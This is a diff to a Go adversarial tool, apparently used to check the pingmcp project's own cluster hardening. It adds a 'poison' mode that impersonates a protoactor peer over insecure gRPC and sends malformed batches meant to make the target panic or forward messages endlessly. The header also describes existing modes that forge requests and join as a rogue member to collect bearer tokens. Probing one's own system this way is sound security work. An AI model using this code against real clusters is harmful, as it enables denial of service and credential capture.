@@ -14,7 +14,13 @@
 //	rogue --mode member --target ADDR
 //	    joins as a member hosting sessions, and counts, until --timeout, the
 //	    requests of new sessions the cluster places on it (and the bearer
-//	    tokens in them), answering each 503.
+//	    tokens in them), answering each 503;
+//	rogue --mode poison --target ADDR
+//	    speaks protoactor's wire itself: connects to ADDR and sends batches
+//	    that protoactor could not take (a message of a type nobody
+//	    registered, one naming a target the batch does not hold, one for
+//	    another of ADDR's names that protoactor would send on), counting
+//	    them in "sent".
 //
 // It is not a test helper of the project's: nothing imports it.
 package main
@@ -26,6 +32,7 @@ import (
 	"fmt"
 	"io"
 	"log/slog"
+	"net"
 	"net/http"
 	"os"
 	"time"
@@ -34,6 +41,8 @@ import (
 	protocluster "github.com/asynkron/protoactor-go/cluster"
 	"github.com/asynkron/protoactor-go/cluster/identitylookup/disthash"
 	"github.com/asynkron/protoactor-go/remote"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials/insecure"
 
 	"github.com/pingmcp/pingmcp/cluster"
 	"github.com/pingmcp/pingmcp/cluster/envelope"
@@ -46,6 +55,7 @@ type outcome struct {
 	Status    int    `json:"status"`    // the forged request's HTTP status (0: no answer)
 	Hosted    int    `json:"hosted"`    // member: requests placed on it
 	Tokens    int    `json:"tokens"`    // member: of which with a bearer token
+	Sent      int    `json:"sent"`      // poison: batches sent
 	Body      string `json:"body"`
 	Error     string `json:"error,omitempty"`
 }
@@ -83,6 +93,8 @@ func main() {
 		err = direct(ctx, *target, *session, req, &out)
 	case "member":
 		err = member(ctx, *target, &out)
+	case "poison":
+		err = poison(ctx, *target, &out)
 	default:
 		err = fmt.Errorf("unknown mode %q", *mode)
 	}
@@ -206,6 +218,56 @@ func member(ctx context.Context, target string, out *outcome) error {
 		}
 		if !out.Joined && len(n.Members()) > 1 {
 			out.Joined = true
+		}
+	}
+}
+
+// poison sends the target, over protoactor's own stream, batches that
+// protoactor by itself would panic on or send round for good, then closes
+// the stream and waits for the target to end it.
+func poison(ctx context.Context, target string, out *outcome) error {
+	_, port, err := net.SplitHostPort(target)
+	if err != nil {
+		return err
+	}
+	conn, err := grpc.NewClient(target, grpc.WithTransportCredentials(insecure.NewCredentials()))
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	stream, err := remote.NewRemotingClient(conn).Receive(ctx)
+	if err != nil {
+		return err
+	}
+	hello := &remote.ConnectRequest{ConnectionType: &remote.ConnectRequest_ServerConnection{
+		ServerConnection: &remote.ServerConnection{SystemId: "rogue", Address: "127.0.0.1:1"}}}
+	if err := stream.Send(&remote.RemoteMessage{MessageType: &remote.RemoteMessage_ConnectRequest{ConnectRequest: hello}}); err != nil {
+		return err
+	}
+	if _, err := stream.Recv(); err != nil {
+		return fmt.Errorf("connect response: %w", err)
+	}
+	const envelopeType = "pingmcp.envelope.v1.Envelope"
+	activator := func(addr string) []*actor.PID {
+		return []*actor.PID{{Address: addr, Id: disthash.PartitionActivatorActorName}}
+	}
+	batches := []*remote.MessageBatch{
+		{TypeNames: []string{"rogue.NoSuchType"}, Targets: activator(target), Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 0}}},
+		{TypeNames: []string{envelopeType}, Targets: activator(target), Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 5}}},
+		{TypeNames: []string{envelopeType}, Targets: activator("localhost:" + port), Envelopes: []*remote.MessageEnvelope{{TypeId: 0, Target: 0}}},
+	}
+	for _, b := range batches {
+		if err := stream.Send(&remote.RemoteMessage{MessageType: &remote.RemoteMessage_MessageBatch{MessageBatch: b}}); err != nil {
+			return fmt.Errorf("batch %d: %w", out.Sent+1, err)
+		}
+		out.Sent++
+	}
+	if err := stream.CloseSend(); err != nil {
+		return err
+	}
+	for {
+		if _, err := stream.Recv(); err != nil {
+			return nil // the target ended the stream (io.EOF): it read every batch
 		}
 	}
 }
